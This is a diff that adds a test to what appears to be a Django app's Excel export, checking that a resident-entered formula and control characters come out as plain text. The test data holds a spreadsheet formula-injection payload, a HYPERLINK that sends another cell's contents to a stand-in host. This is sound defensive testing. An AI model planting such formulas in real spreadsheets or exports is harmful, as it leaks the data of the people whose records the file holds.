@@ -200,6 +200,21 @@ def test_export_writes_the_standard_columns_without_personal_numbers(office, pro
     assert "13700002222" not in text and "13812345678" not in text
 
 
+def test_a_residents_formula_and_control_characters_export_as_plain_text(office, problem):
+    import io
+
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("http://x.example/?leak="&A4,"点击查看")'
+    Problem.objects.filter(pk=problem.pk).update(description=attack, measures="清理\x07水渠\x1b", goal="+1")
+    response = client_for(office).get(reverse("ledger:export"))
+    assert response.status_code == 200
+    row = load_workbook(io.BytesIO(response.content)).active[4]
+    cells = {c.value: c for c in row}
+    assert cells[attack].data_type == "s" and cells[attack].quotePrefix
+    assert "清理水渠" in cells and cells["+1"].quotePrefix
+
+
 def test_bulk_assignment_through_the_page_is_all_or_nothing(office, town, pending):
     from zhenwu.ledger.services import problem_create as create
 
